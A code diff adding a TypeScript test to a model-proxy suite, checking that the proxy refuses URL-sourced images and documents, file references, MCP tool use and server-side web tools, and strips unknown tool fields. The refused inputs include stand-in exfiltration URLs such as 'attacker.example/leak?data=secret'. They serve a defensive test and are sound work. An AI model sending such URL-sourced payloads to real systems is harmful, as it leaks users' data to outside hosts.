@@ -147,6 +147,42 @@ describe("model proxy", () => {
     expect(await keyless.call({ messages: spec().messages })).toMatchObject({ ok: false, error: expect.stringContaining("ANTHROPIC_API_KEY") });
   });
 
+  it("passes only client tools and inline content: no URL sources, server tools or files, which would reach the network", async () => {
+    const proxy = new ModelProxy({ settings: settings(), spec: spec({ maxSteps: 20 }) });
+    const sentBefore = fake.requests.length;
+    const user = (content: unknown) => ({ system: spec().system, messages: [{ role: "user", content }] });
+    const refused = [
+      user([{ type: "image", source: { type: "url", url: "https://attacker.example/leak?data=secret" } }]),
+      user([{ type: "document", source: { type: "url", url: "https://attacker.example/x.pdf" } }]),
+      user([{ type: "document", source: { type: "file", file_id: "file_123" } }]),
+      user([{ type: "tool_result", tool_use_id: "t1", content: [{ type: "image", source: { type: "url", url: "https://attacker.example/y" } }] }]),
+      user([{ type: "mcp_tool_use", id: "m1", name: "x", server_name: "s", input: {} }]),
+      { ...user("hi"), tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] },
+      { ...user("hi"), tools: [{ type: "web_search_20250305", name: "web_search", input_schema: {} }] },
+    ];
+    for (const request of refused) {
+      expect(await proxy.call(request), JSON.stringify(request)).toMatchObject({ ok: false, error: expect.stringContaining("refused by the bridge") });
+    }
+    expect(fake.requests.length).toBe(sentBefore);
+    const allowed = await proxy.call({
+      ...user([
+        { type: "text", text: "look" },
+        {
+          type: "image",
+          source: {
+            type: "base64",
+            media_type: "image/png",
+            data: "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+          },
+        },
+      ]),
+      tools: [{ name: "read_file", description: "reads a file", input_schema: { type: "object" }, extra: "dropped" }],
+    });
+    expect(allowed, JSON.stringify(allowed)).toMatchObject({ ok: true });
+    expect(fake.requests.at(-1)!.body).toMatchObject({ tools: [{ name: "read_file", description: "reads a file", input_schema: { type: "object" } }] });
+    expect(JSON.stringify(fake.requests.at(-1)!.body)).not.toContain("dropped");
+  });
+
   it("retries an overloaded API and records every attempt; a 401 is not retried", async () => {
     fake.enqueue({ kind: "error", status: 529 });
     const proxy = new ModelProxy({ settings: settings(), spec: spec(), retryBaseMs: 10 });
